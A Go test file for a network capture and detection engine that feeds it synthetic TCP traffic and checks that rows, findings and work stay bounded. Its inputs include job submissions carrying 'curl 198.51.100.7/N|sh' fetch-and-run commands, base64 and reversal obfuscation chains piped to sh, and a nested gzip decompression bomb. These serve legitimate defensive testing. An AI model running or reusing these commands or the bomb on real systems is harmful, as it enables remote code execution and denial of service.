package test

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"net/netip"
	"regexp"
	"strings"
	"testing"

	"github.com/raytap/raytap/capture"
	"github.com/raytap/raytap/engine"
)

// conversation is one connection: what the client says, and then what the server says, in segments of 1,400 bytes within
// a second.
func conversation(client netip.AddrPort, up, down string) (frames []capture.Frame) {
	server := netip.MustParseAddrPort("10.0.0.5:8265")
	var seq [2]uint32
	at := capture.Time(1_764_000_000e9)
	send := func(side int, flags byte, payload string) {
		src, dst := client, server
		if side == 1 {
			src, dst = server, client
		}
		b := make([]byte, 54, 54+len(payload))
		b[12] = 8
		ip, tcp := b[14:34], b[34:54]
		ip[0], ip[8], ip[9] = 0x45, 64, 6
		binary.BigEndian.PutUint16(ip[2:], uint16(40+len(payload)))
		s, d := src.Addr().As4(), dst.Addr().As4()
		copy(ip[12:], s[:])
		copy(ip[16:], d[:])
		binary.BigEndian.PutUint16(tcp, src.Port())
		binary.BigEndian.PutUint16(tcp[2:], dst.Port())
		binary.BigEndian.PutUint32(tcp[4:], seq[side])
		binary.BigEndian.PutUint32(tcp[8:], seq[side^1])
		tcp[12], tcp[13] = 5<<4, flags
		binary.BigEndian.PutUint16(tcp[14:], 0xffff)
		at += 100
		frames = append(frames, capture.Frame{Time: at, Ordinal: uint64(len(frames) + 1), Data: append(b, payload...), WireLen: len(b) + len(payload), Link: 1})
		seq[side] += uint32(len(payload))
		if flags&3 != 0 {
			seq[side]++
		}
	}
	send(0, 2, "")
	send(1, 0x12, "")
	send(0, 0x10, "")
	for i, b := range []string{up, down} {
		for len(b) > 0 {
			n := min(len(b), 1400)
			send(i, 0x18, b[:n])
			b = b[n:]
		}
	}
	send(0, 0x11, "")
	send(1, 0x11, "")
	send(0, 0x10, "")
	return frames
}

// What SECURITY.md has of costs, in units of capture.Worker (4 ns), beside those that decoders and looks at commands count
// themselves: an event with its row, and a finding that is written.
const (
	eventUnits   = 512
	findingUnits = 4 << 10
)

// TestNothingCostsMoreThanItWeighs: whatever one flow asks for, rows, findings, work of decoders and looks at commands are
// bounded by its bytes and by what there is for all; and each command is told. Counted in rows, lines and units, not in time.
func TestNothingCostsMoreThanItWeighs(t *testing.T) {
	if testing.Short() {
		t.Skip("short: much work for one goroutine")
	}
	repeat := func(n int, f func(i int) string) string {
		var b strings.Builder
		for i := range n {
			b.WriteString(f(i))
		}
		return b.String()
	}
	job := func(cmd string) string {
		body := fmt.Sprintf(`{"entrypoint":%q}`, cmd)
		return fmt.Sprintf("POST /api/jobs/ HTTP/1.1\r\nContent-Length: %d\r\n\r\n%s", len(body), body)
	}
	const ok = "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n{}"
	const n = 20000
	h2 := func(length int, kind, flags byte, stream int, b string) string {
		return string([]byte{byte(length >> 16), byte(length >> 8), byte(length), kind, flags, byte(stream >> 24), byte(stream >> 16), byte(stream >> 8), byte(stream)}) + b
	}
	preface := "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2(0, 4, 0, 0, "")
	power := "f=aaaaaaaaaaaaaaaa;" + strings.Repeat("f=$f$f$f$f;", 5) + strings.Repeat("echo $f|rev|base64 -d|sh;", 4)
	command := regexp.MustCompile(`198\.51\.100\.7/\d+`)
	deflated := func(b []byte) string {
		var z bytes.Buffer
		w := gzip.NewWriter(&z)
		_, _ = w.Write(b)
		_ = w.Close()
		return z.String()
	}
	bomb := deflated([]byte(deflated(make([]byte, 4<<20))))
	packed := base64.StdEncoding.EncodeToString([]byte(deflated([]byte(strings.Repeat("curl|base64 wget | sh $(eval x ", 2000)))))
	for _, tt := range []struct {
		trap     string
		up, down string
		jobs     int  // commands, all of which differ
		cut      bool // rows are
		kilo     int  // thousands of units a kilobyte at most, see SECURITY.md
	}{
		{"the same small request", strings.Repeat("GET / HTTP/1.1\r\n\r\n", 3*n), "", 0, true, 22},
		{"small requests that differ", repeat(3*n, func(i int) string { return fmt.Sprintf("GET /%d HTTP/1.1\r\n\r\n", i) }), "", 0, true, 26},
		{"small requests with answers", repeat(n, func(i int) string { return fmt.Sprintf("GET /%d HTTP/1.1\r\n\r\n", i) }), strings.Repeat(ok, n), 0, true, 29},
		{"small requests over HTTP/2", preface + repeat(3*n, func(i int) string { return h2(3, 1, 5, 2*i+1, "\x82\x86\x84") }), "", 0, true, 23},
		{"fields that HPACK repeats", preface + h2(74, 1, 5, 1, "\x82\x86\x84\x40\x04aaaa\x40"+strings.Repeat("a", 64)) +
			repeat(n, func(i int) string { return h2(18, 1, 5, 2*i+3, "\x82\x86\x84"+strings.Repeat("\xbe", 15)) }), "", 0, false, 23},
		{"jobs without an answer", repeat(n, func(i int) string { return job(fmt.Sprintf("curl 198.51.100.7/%d|sh", i)) }), "", n, false, 40},
		{"jobs with one", repeat(n, func(i int) string { return job(fmt.Sprintf("curl 198.51.100.7/%d|sh", i)) }), strings.Repeat(ok, n), n, false, 38},
		{"the same job", strings.Repeat(job("curl 198.51.100.7/1|sh"), n), strings.Repeat(ok, n), 1, false, 36},
		{"jobs over HTTP/2", preface + repeat(n, func(i int) string {
			body := fmt.Sprintf(`{"entrypoint":"curl 198.51.100.7/%d|sh"}`, i)
			return h2(14, 1, 4, 2*i+1, "\x83\x86\x04\x0a/api/jobs/") + h2(len(body), 0, 1, 2*i+1, body)
		}), "", n, false, 48},
		{"jobs that do much", repeat(n/10, func(i int) string { return job(fmt.Sprintf("%s curl 198.51.100.7/%d|sh", power, i)) }), strings.Repeat(ok, n/10), n / 10, false, 70},
		{"jobs with packed texts", repeat(n/50, func(i int) string {
			return job(fmt.Sprintf("curl 198.51.100.7/%d|sh%s", i, strings.Repeat(";echo "+packed+"|base64 -d|zcat|sh", 8)))
		}), strings.Repeat(ok, n/50), n / 50, false, 34},
		{"jobs that are stopped", repeat(n, func(i int) string { return fmt.Sprintf("DELETE /api/jobs/%d HTTP/1.1\r\n\r\n", i) }), strings.Repeat(ok, n), 0, true, 38},
		{"bodies of zeros", repeat(n/10, func(int) string {
			return fmt.Sprintf("POST /api/jobs/ HTTP/1.1\r\nContent-Encoding: gzip, gzip\r\nContent-Length: %d\r\n\r\n%s", len(bomb), bomb)
		}), strings.Repeat(ok, n/10), 0, false, 60},
	} {
		e, cfg := &ear{}, engine.Default()
		cfg.Checksums = "ignore"
		stats, err := run(t.Context(), cfg, &memory{conversation(netip.MustParseAddrPort("203.0.113.5:40000"), tt.up, tt.down)}, e)
		if err != nil {
			t.Fatal(err)
		}
		payload := len(tt.up) + len(tt.down)
		// See capture/budget.go: 64, one for 32 bytes, and half of what a shard has at most; rows that are made of them are a
		// call and a file for each.
		events := 64 + payload/32 + (4<<20+1<<20)/512/2 + 1
		if http := len(e.rows["http"]); http > events {
			t.Errorf("%s: %d rows of http.log for %d bytes, want %d at most", tt.trap, http, payload, events)
		}
		if got := stats.Flow.Overtold == 1 && stats.Flow.RowsCut > 0; got != tt.cut {
			t.Errorf("%s: %d flows said to have too many rows, %d cut", tt.trap, stats.Flow.Overtold, stats.Flow.RowsCut)
		}
		// See detectors/gather.go.
		if most := 2048 + 2*tt.jobs/64 + 64; len(e.findings) > most {
			t.Errorf("%s: %d findings, want %d at most", tt.trap, len(e.findings), most)
		}
		if most := uint64(16*payload + 16<<10 + 5<<20); stats.Flow.Work > most {
			t.Errorf("%s: %d units of work for %d bytes, want %d at most", tt.trap, stats.Flow.Work, payload, most)
		}
		// All that is counted, and what there is for all with it.
		read := stats.Rows + stats.Flow.RowsCut - stats.Flow.Repeated
		units := stats.Flow.Work + stats.LookWork + eventUnits*read + findingUnits*stats.Written
		if kilo := int(units) * 1024 / 1000 / payload; kilo > tt.kilo {
			t.Errorf("%s: %d thousand units a kilobyte, want %d at most", tt.trap, kilo, tt.kilo)
		} else {
			t.Logf("%s: %d thousand units a kilobyte", tt.trap, kilo)
		}
		told := map[string]bool{}
		for _, f := range e.findings {
			for _, v := range f.Evidence {
				for _, c := range command.FindAllString(v.Value, -1) {
					told[c] = true
				}
			}
		}
		if len(told) != tt.jobs {
			t.Errorf("%s: %d commands of %d are told", tt.trap, len(told), tt.jobs)
		}
	}
}
